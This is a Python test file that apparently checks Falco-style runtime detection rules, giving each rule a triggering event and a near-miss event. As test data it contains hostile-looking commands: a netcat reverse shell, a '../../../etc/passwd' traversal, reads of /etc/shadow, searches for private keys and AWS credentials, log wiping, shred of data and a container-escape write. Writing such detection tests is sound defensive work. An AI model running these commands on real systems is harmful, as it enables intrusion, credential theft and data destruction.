"""falco_rules.yaml."""

from __future__ import annotations

from typing import Any

from engine.events import Fd
from engine.state.event import Event
from tests.helpers.events import ALL_CAPS, ORDINARY_CAPS, PTS, called, emptied, opened, started, written
from tests.helpers.upstream.case import ENTRY, MS, Case, Cases, as_user, connects, image, resolved, socket
from tests.helpers.world import T0, WEB, docker

AF_PACKET, AF_INET = 17, 2
PTRACE_TRACEME, PTRACE_CONT, PTRACE_ATTACH = 0, 7, 16
KUBERNETES = "kubernetes.default.svc.cluster.local"
NGINX = ("nginx", "containerd-shim")


def climbing(given: str, **more: Any) -> Event:
    """An open of /etc/passwd by the name ``given``."""
    event = opened("/etc/passwd", **more)
    event.kernel.args["name"] = given
    return event


CASES: Cases = {
    "Directory traversal monitored file read": Case(
        climbing("../../../etc/passwd", ancestors=NGINX), climbing("/etc/passwd", ancestors=NGINX)
    ),
    "Read sensitive file trusted after startup": Case(
        opened("/etc/shadow", program="/usr/sbin/nginx", started=T0 - 6000 * MS),
        opened("/etc/shadow", program="/usr/sbin/nginx", started=T0 - 4000 * MS),
    ),
    "Read sensitive file untrusted": Case(
        opened("/etc/sudoers.d/admin"), opened("/etc/sudoers.d/admin", program="/usr/bin/sudo")
    ),
    "Run shell untrusted": Case(
        started("/bin/sh", "-c", "id", ancestors=NGINX), started("/bin/sh", "-c", "whoami", ancestors=NGINX)
    ),
    "System user interactive": Case(
        as_user(started("/bin/ls", ancestors=("bash", "sshd")), "www-data"),
        as_user(started("/bin/ls", ancestors=("bash", "cron")), "www-data"),
    ),
    "Terminal shell in container": Case(
        started("/bin/sh", ancestors=("runc",), tty=PTS), started("/bin/sh", ancestors=("sh", "runc"), tty=PTS)
    ),
    "Contact K8S API Server From Container": Case(
        resolved(connects("/bin/curl", "10.96.0.1", 443), "10.96.0.1", KUBERNETES),
        resolved(connects("/bin/curl", "10.96.0.2", 443), "10.96.0.1", KUBERNETES),
    ),
    "Netcat Remote Code Execution in Container": Case(
        started("/bin/nc", "-e", "/bin/sh", "198.51.100.1", "80"), started("/bin/nc", "-z", "198.51.100.1", "80")
    ),
    "Search Private Keys or Passwords": Case(
        started("/bin/grep", "-r", "BEGIN RSA PRIVATE", "/"), started("/bin/grep", "-r", "BEGIN RSA PUBLIC", "/")
    ),
    "Clear Log Activities": Case(emptied("/var/log/auth.log"), written("/var/log/auth.log")),
    "Remove Bulk Data from Disk": Case(started("/usr/bin/shred", "/data"), started("/bin/rm", "/data")),
    "Create Symlink Over Sensitive Files": Case(
        called("symlink", target="/etc/shadow", linkpath="/tmp/a"),
        called("symlink", target="/etc/hostname", linkpath="/tmp/a"),
    ),
    "Create Hardlink Over Sensitive Files": Case(
        called("link", oldpath="/etc/shadow", newpath="/tmp/a"),
        called("link", oldpath="/tmp/a", newpath="/etc/shadow"),
    ),
    "Packet socket created in container": Case(
        called("socket", domain=AF_PACKET, type=3, proto=0), called("socket", domain=AF_INET, type=3, proto=0)
    ),
    "Redirect STDOUT/STDIN to Network Connection in Container": Case(
        called("dup2", res=1, fd=socket("198.51.100.1", 80), oldfd=3, newfd=1),
        called("dup2", res=5, fd=socket("198.51.100.1", 80), oldfd=3, newfd=5),
    ),
    "Linux Kernel Module Injection Detected": Case(
        called("finit_module", caps=ALL_CAPS, fd=Fd(num=3, type="file", name="/tmp/evil.ko")),
        called("finit_module", caps=ORDINARY_CAPS, fd=Fd(num=3, type="file", name="/tmp/evil.ko")),
    ),
    "Debugfs Launched in Privileged Container": Case(
        started("/sbin/debugfs", container=docker(WEB, privileged=True)), started("/sbin/debugfs")
    ),
    "Detect release_agent File Container Escapes": Case(
        written("/sys/fs/cgroup/rdma/release_agent", caps=ALL_CAPS), written("/sys/fs/cgroup/rdma/release_agent")
    ),
    "PTRACE attached to process": Case(
        called("ptrace", request=PTRACE_ATTACH, pid=7), called("ptrace", request=PTRACE_CONT, pid=7)
    ),
    "PTRACE anti-debug attempt": Case(
        called("ptrace", request=PTRACE_TRACEME, pid=0), called("ptrace", request=PTRACE_ATTACH, pid=7)
    ),
    "Find AWS Credentials": Case(
        started("/usr/bin/find", "/", "-path", "*/.aws/credentials"), started("/usr/bin/find", "/", "-path", "*/.aws")
    ),
    "Execution from /dev/shm": Case(
        started("./dropped", cwd="/dev/shm"),
        started("./dropped", cwd="/dev/shmem"),
    ),
    "Drop and execute new binary in container": Case(
        started("/tmp/dropped", is_exe_upper_layer=True), started("/tmp/dropped")
    ),
    "Disallowed SSH Connection Non Standard Port": Case(
        connects("/usr/bin/ssh", "198.51.100.1", 443), connects("/usr/bin/ssh", "198.51.100.1", 22)
    ),
    "Fileless execution via memfd_create": Case(
        started("/proc/self/fd/3", is_exe_from_memfd=True),
        started("/usr/bin/runc", is_exe_from_memfd=True, container=image("shop:1"), **ENTRY),
    ),
}
"""By the rule's name."""
